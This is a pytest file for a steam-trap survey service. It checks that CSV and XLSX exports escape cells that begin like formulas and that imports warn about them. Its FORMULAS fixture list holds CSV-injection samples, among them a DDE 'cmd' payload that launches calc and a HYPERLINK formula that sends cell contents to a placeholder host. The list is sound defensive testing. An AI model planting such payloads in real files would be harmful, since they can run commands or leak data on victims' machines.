"""Exports a spreadsheet opens as text, never as formulas (OWASP, "CSV Injection":
cells beginning = + - @ tab or CR), which still import back to what was typed."""

import csv
import io
import zipfile
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from service.store.csv_format import FORMULA_STARTS
from tests.factories import make_finding, make_site, make_survey, make_trap

# What a hostile or careless note may hold; each would run in a spreadsheet as written.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def _site_with_formula_notes(api: TestClient) -> dict[str, Any]:
    site = make_site(api)
    survey = make_survey(api, site)
    for number, text in enumerate(FORMULAS):
        trap = make_trap(api, site, tag=f"F-{number}", location=text, notes=text)
        make_finding(api, survey, trap, condition="blow_through", notes=text, tested_by=text)
    return {"site": site, "survey": survey}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_exports_lead_formula_text_with_an_apostrophe(api: TestClient) -> None:
    made = _site_with_formula_notes(api)
    site_id, survey_id = made["site"]["id"], made["survey"]["id"]
    for path in (
        f"/api/v1/sites/{site_id}/exports/register.csv",
        f"/api/v1/surveys/{survey_id}/exports/findings.csv",
        f"/surveys/{survey_id}/downloads/findings.csv",
        f"/sites/{site_id}/downloads/repair-list.csv",
    ):
        cells = _cells(api.get(path).text)
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], path
    notes = _cells(api.get(f"/api/v1/sites/{site_id}/exports/register.csv").text)
    assert {f"'{text}" for text in FORMULAS} <= set(notes)


def test_xlsx_downloads_hold_no_formula(api: TestClient) -> None:
    made = _site_with_formula_notes(api)
    site_id, survey_id = made["site"]["id"], made["survey"]["id"]
    for path in (
        f"/surveys/{survey_id}/downloads/findings.xlsx",
        f"/sites/{site_id}/downloads/repair-list.xlsx",
    ):
        content = api.get(path).content
        cells = [cell for row in load_workbook(io.BytesIO(content)).active for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], path
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            assert b"<f>" not in book.read("xl/worksheets/sheet1.xml"), path
    findings = load_workbook(
        io.BytesIO(api.get(f"/surveys/{survey_id}/downloads/findings.xlsx").content)
    )
    texts = {cell.value for row in findings.active for cell in row}
    assert set(FORMULAS) <= texts  # shown as typed, as text


def test_a_safe_export_imports_back_to_the_text_that_was_typed(api: TestClient) -> None:
    made = _site_with_formula_notes(api)
    register = api.get(f"/api/v1/sites/{made['site']['id']}/exports/register.csv").content
    copy = make_site(api, name="Copy Mill")
    answer = api.post(
        f"/api/v1/sites/{copy['id']}/imports/register",
        params={"commit": "true"},
        content=register,
        headers={"content-type": "text/csv"},
    ).json()
    assert answer["committed"] is True
    assert answer["warnings"] == []  # marked by our own export: nothing to look at
    traps = api.get(f"/api/v1/sites/{copy['id']}/traps").json()["items"]
    assert sorted(trap["notes"] for trap in traps) == sorted(FORMULAS)


@pytest.mark.parametrize("text", FORMULAS)
def test_an_import_warns_of_formula_text_and_keeps_it_as_text(api: TestClient, text: str) -> None:
    site = make_site(api)
    row = io.StringIO()
    header = "tag,application,trap_type,orifice_diameter_mm,inlet_pressure_kpa_g,"
    header += "return_pressure_kpa_g,notes"
    csv.writer(row).writerows(
        [header.split(","), ["W-1", "drip", "thermodynamic", "4", "1000", "0", text]]
    )
    answer = api.post(
        f"/api/v1/sites/{site['id']}/imports/register",
        params={"commit": "true"},
        content=row.getvalue().encode(),
        headers={"content-type": "text/csv"},
    ).json()
    assert answer["committed"] is True, answer
    assert [(w["row"], w["column"]) for w in answer["warnings"]] == [(2, "notes")]
    assert "spreadsheet formula" in answer["warnings"][0]["message"]
    assert api.get(f"/api/v1/sites/{site['id']}/traps").json()["items"][0]["notes"] == text


def test_the_import_page_shows_the_warning_beside_a_clean_preview(api: TestClient) -> None:
    site = make_site(api)
    content = (
        "tag,application,trap_type,orifice_diameter_mm,inlet_pressure_kpa_g,"
        "return_pressure_kpa_g,notes\nW-1,drip,thermodynamic,4,1000,0,=1+1\n"
    )
    preview = api.post(
        f"/sites/{site['id']}/import",
        data={"kind": "register"},
        files={"file": ("register.csv", content.encode(), "text/csv")},
    )
    assert preview.status_code == 200
    assert "1 to look at" in preview.text
    assert "begins like a spreadsheet formula" in preview.text
    assert "Confirm: write all 1 rows" in preview.text
